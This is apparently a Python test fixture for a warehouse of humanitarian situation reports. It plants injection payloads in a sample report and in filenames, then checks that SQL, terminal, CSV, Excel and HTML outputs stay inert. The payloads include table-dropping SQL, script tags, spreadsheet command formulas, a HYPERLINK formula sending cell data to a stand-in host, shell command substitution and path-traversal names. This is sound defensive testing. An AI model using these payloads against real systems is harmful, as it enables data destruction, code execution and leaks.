"""A report whose text attacks whatever shows it, files with odd names, and what must hold of all that shows them.

``write`` makes the folder of reports; the ``assert_..._inert`` functions take what a command, an export or a page gave.
Any way that text of a report leaves the warehouse by is to be tested with them.
"""

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import duckdb

SQL = "'); drop table raw.report; delete from marts.fct_figure; --"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)><a href=javascript:alert(3)>more</a>"
FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"more")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' '!A0",
)
ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b1A \x08\x08\x08"
BIDI = "\u202e0021 emos\u202c \u2067names\u2069 \u200f"
JINJA = "{{ 1 / 0 }} {% raw %} ${HOME} $(touch pwned) `touch pwned`"
BREAKS = "one\u2028two\u2029three\x85four"
# Characters that act on a terminal: controls, escapes, direction marks, line separators.
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
FORMULA_STARTS = tuple("=+-@\t\r＝＋－＠")

REPORT = f"""\
GTRM Peru - Situation report - January 2021 {FORMULAS[0]} {HTML}

=cmd|'/C calc'!A0 in Health
Partners reached {SQL} some 1,120 refugees and migrants with medical care {HTML}.
=1+1 and 340 children received vaccines {ANSI}.
{FORMULAS[1]} were given to 250 families {BIDI}.
{JINJA} and some 90 pregnant women were helped {BREAKS}.

{FORMULAS[2]} | {SQL} | {HTML} | {ANSI} | {FORMULAS[3]} | A | B | World Vision.

=Health
@Shelter
RMRP 224 19,291 -
NO RMRP - 881 63
"""
PLAIN = "GTRM Peru - Situation report - {month} {year}\n\nHealth\nPartners helped some {number} persons with kits.\n"
LONGEST = "a" * 251 + ".txt"
# None is a name that a shell, SQL, HTML, a spreadsheet or a terminal may take as it is.
NAMES = (
    'it\'s a "quoted" `name`; drop table raw.report; --.txt',
    "two\nlines\r\tand a tab.txt",
    "up ..%2f..%2fetc%2fpasswd.txt",
    "dots ...txt.txt",
    "=cmd|' '!A0.txt",
    "-rf.txt",
    "<img src=x onerror=alert(1)>.txt",
    "\x1b[31mred\x1b[0m\x07.txt",
    "\u202etxt.fdp.txt",
    "تقرير الحالة.txt",
    "דוח מצב.txt",
    "{{ 1 \u2044 0 }} %s {0}.txt",
    LONGEST,
)
BYTES_NAME = b"bytes \xff\xfe.txt"
MONTHS = ("February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December")


def write(folder: Path) -> list[Path]:
    """The hostile report and one plain report under each odd name; all of them can be read."""
    folder.mkdir(parents=True)
    (folder / "hostile.txt").write_text(REPORT, "utf-8", newline="")
    names = [*(name.encode() for name in NAMES), BYTES_NAME]
    for number, name in enumerate(names, start=1):
        year, month = divmod(number, len(MONTHS))
        text = PLAIN.format(month=MONTHS[month], year=2021 + year, number=number * 10)
        Path(folder, name.decode("utf-8", "surrogateescape")).write_text(text, "utf-8")
    return sorted(folder.iterdir())


def assert_sql_intact(file: Path, reports: int) -> None:
    """No statement in the text was run: every table is there, with the report's words in it as they are."""
    with duckdb.connect(str(file), read_only=True) as connection:
        ((count,),) = connection.execute("select count(*) from raw.report").fetchall()
        assert count == reports
        ((text,),) = connection.execute("select text from raw.report where report_file = 'hostile.txt'").fetchall()
        assert text == REPORT
        ((figures,),) = connection.execute(
            "select count(*) from marts.fct_figure where report_file = 'hostile.txt'"
        ).fetchall()
        assert figures > 0


def assert_terminal_inert(shown: str) -> None:
    """Nothing in it acts on a terminal."""
    assert [match.group().encode() for match in ACTIVE.finditer(shown)] == []


def assert_csv_inert(data: str) -> None:
    """No cell is a formula, unless it is a plain number, or acts on a terminal; rows have one length."""
    rows = list(csv.reader(io.StringIO(data)))
    assert len({len(row) for row in rows}) == 1
    for value in (value for row in rows for value in row):
        assert not is_formula(value), value
        # Line breaks between quotes stay in the cell.
        assert_terminal_inert(value.replace("\n", " "))


def is_formula(value: str) -> bool:
    """Whether a spreadsheet may calculate a cell; a number with its sign is a number."""
    return value.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d[\d.,]*(e[+-]?\d+)?|-", value)


def assert_xlsx_inert(path: Path) -> None:
    """No cell holds a formula, no part of the book leads elsewhere; needs no library to look."""
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]
        for name in names:
            if name.endswith((".xml", ".rels")):
                for element in ElementTree.fromstring(book.read(name)).iter():
                    assert not element.tag.endswith("}f"), f"{name}: a formula: {element.text}"
                    assert element.get("TargetMode") != "External", f"{name}: {element.attrib}"


class _Page(HTMLParser):
    """What a browser would act on: scripts, handlers, addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.acts: list[str] = []
        self.addresses: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        self.acts += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]
        self.addresses += [value or "" for name, value in attrs if name in {"src", "href", "action", "data", "srcset"}]

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def assert_html_inert(page: str) -> None:
    """No script, handler or address of the report's is live; addresses lead nowhere else.

    A page may have scripts of its own; the report's words may stand in them as data, with no end of the script in it.
    """
    found = _Page()
    found.feed(page)
    assert found.acts == []
    assert [script for script in found.scripts if script.strip().startswith("alert(")] == []
    elsewhere = re.compile(r"\s*(javascript:|vbscript:|data:text|https?:|//)", re.IGNORECASE)
    assert [address for address in found.addresses if elsewhere.match(address)] == []
    assert "<img src=x" not in page
    assert "<script>alert" not in page
